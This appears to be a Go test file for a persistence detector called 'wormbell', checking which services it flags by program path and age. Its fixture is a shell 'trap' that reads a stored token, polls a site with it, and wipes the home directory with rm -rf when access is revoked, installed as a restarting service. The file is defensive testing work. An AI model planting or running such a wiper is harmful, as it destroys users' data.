package persistence_test

import (
	"path/filepath"
	"testing"
	"time"

	"wormbell/agent/respond/persistence"
)

// Our own programs hold every word that a trap holds. In a home they are left
// alone, also if they came lately: somebody may have answered by an update.
func TestOwnPrograms(t *testing.T) {
	t.Parallel()
	trap := "#!/bin/sh\nwhile :; do\n  code=$(curl -s -o /dev/null -w '%{http_code}' -H \"Authorization: Bearer $(cat ~/.config/x/token)\" https://" + site + "/user)\n" +
		"  case $code in 40[0-9]) rm -rf \"$HOME\";; esac\n  sleep 60\ndone\n"
	for _, tt := range []struct {
		name, program string
		since         time.Duration // from now
		blocks        bool
	}{
		{"ours", "go/bin/wormbelld", time.Hour, false},
		{"ours, and nobody knows when it began", "go/bin/wormbell", 0, false},
		{"ours, new", "go/bin/wormbelld", -time.Hour, false},
		{"another's, new", "go/bin/monitor", -time.Hour, true},
		{"another's in our folder", "go/bin/worm", time.Hour, true},
		{"another's of our name", ".local/bin/wormbelld", time.Hour, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			m := newMachine(t)
			m.put(map[string]string{tt.program: trap})
			enabled(m, "x.service", unit("%h/"+tt.program, "Restart=always"))
			m.config.Own = filepath.Join(m.home, "go/bin")
			if tt.since != 0 {
				m.config.Since = time.Now().Add(tt.since)
			}
			r, err := persistence.Look(t.Context(), m.config)
			if err != nil {
				t.Fatal(err)
			}
			if blocks := len(r.Blocking()) > 0; blocks != tt.blocks {
				t.Errorf("blocks: %t: %q", blocks, r.Summary())
			}
		})
	}
}
